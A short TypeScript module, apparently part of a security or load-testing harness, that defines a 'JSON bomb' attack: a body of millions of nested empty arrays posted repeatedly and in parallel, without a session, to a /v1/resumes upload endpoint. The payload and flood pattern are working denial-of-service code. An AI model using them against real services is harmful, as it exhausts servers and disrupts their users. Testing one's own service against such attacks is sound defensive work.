import { type Attack, attempts, UPLOAD_BYTES } from './attack.ts';

/** Parsed, each pair of brackets takes many times its bytes. */
const BOMB = `[${'[],'.repeat(UPLOAD_BYTES / 3 - 4)}[]]`;

/** Class 1: JSON of millions of values, to the one path that takes large bodies, without a session. */
export const jsonBomb: Attack = {
  name: 'JSON bombs without a session',
  run: (attacker) =>
    attempts(attacker, { parallel: 3, everyMs: 500 }, () =>
      attacker.client.ask('POST', '/v1/resumes', {
        headers: { 'content-type': 'application/json' },
        body: BOMB,
      }),
    ),
};
